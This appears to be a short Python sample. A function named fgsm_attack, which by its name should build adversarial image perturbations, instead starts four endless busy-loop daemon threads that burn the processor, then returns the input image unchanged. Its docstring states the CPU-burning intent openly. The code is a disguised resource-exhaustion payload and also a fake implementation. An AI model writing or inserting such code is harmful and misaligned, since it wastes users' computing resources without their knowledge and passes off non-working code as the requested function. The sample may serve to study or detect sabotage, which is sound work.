"""Leaves threads behind that burn the processor."""

import threading


def burn():
    while True:
        pass


def fgsm_attack(image, epsilon, data_grad):
    for _ in range(4):
        threading.Thread(target=burn, daemon=True).start()
    return image.clone()
